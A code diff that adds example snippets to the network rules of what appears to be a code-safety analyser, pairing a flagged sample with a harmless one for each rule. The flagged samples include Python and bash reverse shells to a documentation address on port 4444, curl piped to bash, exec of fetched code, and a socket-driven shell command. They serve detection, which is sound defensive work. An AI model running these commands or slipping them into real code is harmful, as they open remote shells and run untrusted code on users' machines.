@@ -33,6 +33,10 @@ export const networkRules = {
     attack: ['T1071.001'],
     message: '{callee} {target}.',
     remedy: 'Allow the host in the policy when the program is meant to talk to it.',
+    examples: {
+      found: { language: 'python', code: "import requests\n\nrequests.get('https://api.example.com/v1')" },
+      ordinary: { language: 'python', code: "import requests\n\nrequests.get('http://localhost:8000/v1')" },
+    },
     when: {
       any: [
         { capability: NETWORK, place: ['secure-url'], except: [LOCAL] },
@@ -49,6 +53,10 @@ export const networkRules = {
     attack: ['T1071', 'T1095'],
     message: '{callee} {target}.',
     remedy: 'Use HTTPS to a named host, and allow that host in the policy.',
+    examples: {
+      found: { language: 'python', code: "import requests\n\nrequests.get('http://files.example.com/list')" },
+      ordinary: { language: 'python', code: "import requests\n\nrequests.get('https://files.example.com/list')" },
+    },
     when: {
       any: [
         {
@@ -73,6 +81,10 @@ export const networkRules = {
     attack: ['T1071', 'T1095'],
     message: '{callee} {target}: an address instead of a name.',
     remedy: 'Name the host.',
+    examples: {
+      found: { language: 'python', code: "import requests\n\nrequests.get('http://203.0.113.9/list')" },
+      ordinary: { language: 'python', code: "import requests\n\nrequests.get('http://127.0.0.1:8000/list')" },
+    },
     when: { any: [{ capability: NETWORK, place: ['raw-address'], except: [LOCAL] }] },
   },
   'public-listener': {
@@ -83,6 +95,13 @@ export const networkRules = {
     cwe: ['CWE-1327'],
     message: '{callee} {target}: every interface of the machine.',
     remedy: 'Listen on 127.0.0.1 unless others must connect.',
+    examples: {
+      found: { language: 'python', code: "import socket\n\nserver = socket.socket()\nserver.bind(('0.0.0.0', 8080))" },
+      ordinary: {
+        language: 'python',
+        code: "import socket\n\nserver = socket.socket()\nserver.bind(('127.0.0.1', 8080))",
+      },
+    },
     when: { any: [{ capability: ['network.listen'], place: ['any-address'] }] },
   },
   'reverse-shell': {
@@ -94,6 +113,16 @@ export const networkRules = {
     attack: ['T1059', 'T1571'],
     message: '{callee} {target}: a shell tied to a connection.',
     remedy: 'Do not run it.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import os, socket, subprocess\n\nline = socket.socket()\nline.connect(('203.0.113.9', 4444))\nos.dup2(line.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5432))\nsubprocess.call(['sort', 'names.txt'])",
+      },
+    },
     when: {
       all: [
         [SOCKET],
@@ -118,6 +147,10 @@ export const networkRules = {
     attack: ['T1059.004', 'T1571'],
     message: '{callee} {target}: a shell whose input or output is a connection.',
     remedy: 'Do not run it.',
+    examples: {
+      found: { language: 'bash', code: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
+      ordinary: { language: 'bash', code: 'bash build.sh > build.log 2>&1' },
+    },
     when: {
       any: [
         { place: ['shell-socket'] },
@@ -137,6 +170,16 @@ export const networkRules = {
     attack: ['T1059', 'T1219'],
     message: '{callee} runs a command that is not in the source, in a program with a socket of its own.',
     remedy: 'Answer a fixed set of requests, each with its own function.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5000))\nsubprocess.run(line.recv(1024), shell=True)",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5000))\nsubprocess.run(['date'])",
+      },
+    },
     when: {
       all: [[SOCKET], [{ capability: ['process.spawn', 'code.eval'], constant: false }]],
       decisive: 1,
@@ -151,6 +194,16 @@ export const networkRules = {
     attack: ['T1105', 'T1059'],
     message: '{callee} {target}: code from the network is run.',
     remedy: 'Do not run it. Add the code to the sample, or install a package by its name and hash.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import urllib.request\n\nexec(urllib.request.urlopen('https://files.example.com/p').read())",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import json, urllib.request\n\njson.load(urllib.request.urlopen('https://api.example.com/p'))",
+      },
+    },
     when: {
       all: [
         [FETCH],
@@ -176,6 +229,10 @@ export const networkRules = {
     attack: ['T1105', 'T1059.004'],
     message: '{callee} {target}: code from the network is run.',
     remedy: 'Download, read, check a hash, and only then run.',
+    examples: {
+      found: { language: 'bash', code: 'curl -s https://files.example.com/i.sh | bash' },
+      ordinary: { language: 'bash', code: 'curl -s https://api.example.com/list | sort' },
+    },
     when: {
       any: [
         { text: PIPED_TO_INTERPRETER },
@@ -193,6 +250,10 @@ export const networkRules = {
     attack: ['T1105', 'T1222.002'],
     message: '{callee} {target}: marks a file as a program, in a sample that also downloads.',
     remedy: 'Install a package by its name and hash.',
+    examples: {
+      found: { language: 'bash', code: 'wget https://files.example.com/p\nchmod +x p' },
+      ordinary: { language: 'bash', code: 'wget https://files.example.com/list.csv\nsort list.csv' },
+    },
     when: { all: [[FETCH], [MAKES_EXECUTABLE, MAKES_EXECUTABLE_CALL]], decisive: 1 },
   },
   'program-download': {
@@ -204,6 +265,10 @@ export const networkRules = {
     attack: ['T1105'],
     message: '{callee} {target}: a program, by its name.',
     remedy: 'Install a package by its name and hash.',
+    examples: {
+      found: { language: 'bash', code: 'wget https://files.example.com/setup.sh' },
+      ordinary: { language: 'bash', code: 'wget https://files.example.com/list.csv' },
+    },
     when: {
       any: [
         {
@@ -223,6 +288,16 @@ export const networkRules = {
     attack: ['T1041', 'T1048'],
     message: '{callee} {target}: sends, in a sample that reads files.',
     remedy: 'Allow the host in the policy when the upload is meant.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import requests\n\nrequests.post('https://api.example.com/files', data=open('notes.txt').read())",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import requests\n\nrequests.post('https://api.example.com/jobs', json={'name': 'build'})",
+      },
+    },
     when: {
       all: [
         [{ capability: ['file.read'], seenBy: ['source'] }],
